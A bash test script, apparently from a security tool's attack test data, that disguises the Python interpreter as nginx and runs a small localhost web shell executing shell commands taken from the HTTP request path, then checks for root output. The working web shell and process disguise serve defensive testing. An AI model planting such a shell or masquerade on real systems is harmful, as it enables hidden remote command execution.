#!/usr/bin/env bash
# A web server that runs what it is asked for, as a web shell does. The server is a copy of Python at a place of nginx, in a
# folder over /usr/local/sbin that only this script sees.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts
own_folder /usr/local/sbin
cp "$(readlink -f /usr/bin/python3)" /usr/local/sbin/nginx

cat >"$work/shell.py" <<'PYTHON'
import socket, subprocess, sys
server = socket.create_server(("127.0.0.1", 0))
server.settimeout(30)
with open(sys.argv[1], "w") as file:
    file.write(str(server.getsockname()[1]))
connection, _ = server.accept()
request = b""
while b"\r\n\r\n" not in request:
    request += connection.recv(4096)
output = subprocess.run(["sh", "-c", request.split()[1][1:].decode()], stdout=subprocess.PIPE, check=True).stdout
connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + output)
PYTHON
/usr/local/sbin/nginx -I "$work/shell.py" "$work/port" &
wait_for "$work/port"
curl -s "http://127.0.0.1:$(<"$work/port")/id" | says uid=0 || fail "no answer"
wait
